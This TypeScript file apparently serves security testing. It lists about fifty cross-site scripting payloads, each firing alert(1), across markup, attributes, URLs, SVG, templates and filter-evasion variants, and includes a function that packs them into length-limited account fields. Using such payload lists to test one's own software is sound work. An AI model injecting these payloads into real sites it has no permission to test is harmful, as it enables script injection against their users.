/**
 * Script injection payloads. Each runs `alert` if a page inserts it unescaped as markup, an attribute, a URL, a style
 * or a template.
 */
export const PAYLOADS: readonly string[] = [
  '<script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '<!--><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<SCRIPT SRC=//127.0.0.1/alert.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  '<img src=x oneonerrorrror=alert(1)>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<img/src=`x`/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><set attributeName=onmouseover to=alert(1)>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>',
  '<body onload=alert(1)>',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<img src=x onerror=parent.alert(1)>">',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<form action=javascript:alert(1)><button>x</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  'javascript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<link rel=stylesheet href="data:text/css,*{background:url(javascript:alert(1))}">',
  '<style>@import "javascript:alert(1)"</style>',
  '" style="background:url(javascript:alert(1))" x="',
  '" onmouseover="alert(1)" x="',
  "' onfocus='alert(1)' autofocus x='",
  "');alert(1);//",
  '#{alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '<template><script>alert(1)</script></template>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '＜script＞alert(1)＜/script＞',
  '<ſcript>alert(1)</ſcript>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
];

/**
 * Joins the payloads into as few texts as possible, for fields of which an account may have only a few. Each text has
 * at most `maxLength` characters, unless a single payload is longer.
 */
export function packed(maxLength: number): string[] {
  const texts: string[] = [];
  for (const payload of PAYLOADS) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + payload.length <= maxLength) texts[texts.length - 1] = last + payload;
    else texts.push(payload);
  }
  return texts;
}
